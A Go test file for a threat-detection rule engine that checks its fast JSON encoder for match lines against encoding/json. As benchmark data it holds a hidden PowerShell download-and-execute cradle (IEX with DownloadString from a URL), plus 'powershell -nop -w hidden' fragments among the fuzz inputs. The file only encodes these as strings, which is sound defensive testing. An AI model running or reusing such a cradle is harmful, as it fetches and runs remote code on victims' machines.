package main

import (
	"encoding/json"
	"math/rand/v2"
	"strings"
	"testing"
	"time"

	"github.com/mdrkit/mdr/detect"
	"github.com/mdrkit/mdr/internal/evtest"
)

// matchJSONReflect is what appendMatchJSON must write: scanMatch through
// encoding/json.
func matchJSONReflect(m *detect.Match, it scanItem) ([]byte, error) {
	r := m.Rule
	sm := scanMatch{
		RuleID: r.ID, RuleTitle: r.Title, Level: r.Severity.String(), Tags: r.Tags,
		File: it.file, EventIndex: it.index, EventID: m.Event.ID(),
		Explanation: m.Explanation, Explained: m.Explanation.String(),
	}
	if sm.Tags == nil {
		sm.Tags = []string{}
	}
	if t := m.Event.Time(); !t.IsZero() {
		sm.EventTime = t.UTC().Format(time.RFC3339Nano)
	}
	if len(r.Fields) > 0 {
		sm.Fields = make(map[string]any, len(r.Fields))
		for _, f := range r.Fields {
			if v, ok := m.Event.Get(f); ok {
				sm.Fields[f] = v.Any()
			}
		}
	}
	b, err := json.Marshal(sm)
	return append(b, '\n'), err
}

// checkMatchJSON fails t when appendMatchJSON and encoding/json disagree
// on m.
func checkMatchJSON(t *testing.T, m *detect.Match, it scanItem) {
	t.Helper()
	want, err := matchJSONReflect(m, it)
	if err != nil {
		t.Fatal(err)
	}
	got, err := appendMatchJSON([]byte("prefix"), m, it)
	if err != nil {
		t.Fatal(err)
	}
	if string(got) != "prefix"+string(want) {
		t.Fatalf("rule %s:\n got %s\nwant %s", m.Rule.ID, got[len("prefix"):], want)
	}
}

// TestAppendJSONString compares the string encoder with encoding/json on
// random strings of the bytes it treats apart: control bytes, quote and
// backslash, <, > and &, DEL, multi-byte UTF-8, U+2028 and U+2029, invalid
// UTF-8, and runs of plain ASCII long enough for the 8-byte steps.
func TestAppendJSONString(t *testing.T) {
	pieces := []string{"a", "Z", " ", "\x00", "\x01", "\x08", "\x09", "\x0a", "\x0c", "\x0d", "\x1f", "\"", "\\", "<", ">", "&",
		"\x7f", "é", "€", "\u2028", "\u2029", "\xff", "\xc3", "\xe2\x80", "𝄞", "C:\\Windows\\System32\\cmd.exe", "powershell -nop -w hidden"}
	rng := rand.New(rand.NewPCG(7, 8))
	for i := 0; i < 20000; i++ {
		var b strings.Builder
		for n := rng.IntN(12); n > 0; n-- {
			b.WriteString(pieces[rng.IntN(len(pieces))])
		}
		s := b.String()
		want, _ := json.Marshal(s)
		if got := appendJSONString(nil, s); string(got) != string(want) {
			t.Fatalf("%q: got %s want %s", s, got, want)
		}
	}
	// every byte value alone and inside a plain run
	for c := 0; c < 256; c++ {
		for _, s := range []string{string([]byte{byte(c)}), "abcdefgh" + string([]byte{byte(c)}) + "ijklmnopq"} {
			want, _ := json.Marshal(s)
			if got := appendJSONString(nil, s); string(got) != string(want) {
				t.Fatalf("byte %#x in %q: got %s want %s", c, s, got, want)
			}
		}
	}
}

// TestAppendMatchJSONShapes covers the optional parts of a match line
// that real matches rarely have: no tags, no event time or id, negated
// and field-less conditions, output fields of every kind, no conditions.
func TestAppendMatchJSONShapes(t *testing.T) {
	e := evtest.Event("Image", `C:\x\<evil>.exe`, "Count", 3, "Ratio", 0.25, "Flag", true, "List", []string{"a", "b"}, "Nil", nil)
	rules := []detect.Rule{
		{ID: "bare", Title: "t"},
		{ID: "fields", Title: "t", Tags: []string{"attack.t1059", "x&y"}, Fields: []string{"Image", "Count", "Ratio", "Flag", "List", "Nil", "Missing"}},
		{ID: "missing-fields", Title: "t", Fields: []string{"Missing"}},
	}
	expl := []detect.Explanation{
		{},
		{Conditions: []detect.Condition{}},
		{Conditions: []detect.Condition{{Field: "Image", Value: `C:\x\<evil>.exe`, Operator: "endsWithFold", Argument: `"\\<evil>.exe"`}, {Operator: "cel", Argument: "e.x > 1"}, {Value: "v", Operator: "keywordFold", Negated: true}}},
	}
	for i := range rules {
		for _, x := range expl {
			checkMatchJSON(t, &detect.Match{Rule: &rules[i], Event: e, Explanation: x}, scanItem{ev: e, file: "a\"b.jsonl", index: 12})
		}
	}
}

// BenchmarkAppendMatchJSON renders a match line whose explanation holds a
// 2 KB PowerShell command line (matches on script text are typical), and
// the same line through encoding/json for comparison.
func BenchmarkAppendMatchJSON(b *testing.B) {
	cmd := strings.Repeat(`powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')" `, 20)
	e := evtest.Event("CommandLine", cmd, "UtcTime", "2025-12-06 21:11:02.632")
	r := detect.Rule{ID: "r-1", Title: "Suspicious PowerShell Download", Tags: []string{"attack.execution", "attack.t1059.001"}}
	m := &detect.Match{Rule: &r, Event: e, Explanation: detect.Explanation{Conditions: []detect.Condition{
		{Field: "CommandLine", Value: cmd, Operator: "containsFold", Argument: `"downloadstring("`}}}}
	it := scanItem{ev: e, file: "events.jsonl", index: 42}
	for _, c := range []struct {
		name string
		f    func(dst []byte) []byte
	}{
		{"direct", func(dst []byte) []byte { dst, _ = appendMatchJSON(dst[:0], m, it); return dst }},
		{"encoding-json", func([]byte) []byte { line, _ := matchJSONReflect(m, it); return line }},
	} {
		b.Run(c.name, func(b *testing.B) {
			var dst []byte
			b.ReportAllocs()
			b.SetBytes(int64(len(cmd)))
			for b.Loop() {
				dst = c.f(dst)
			}
		})
	}
}
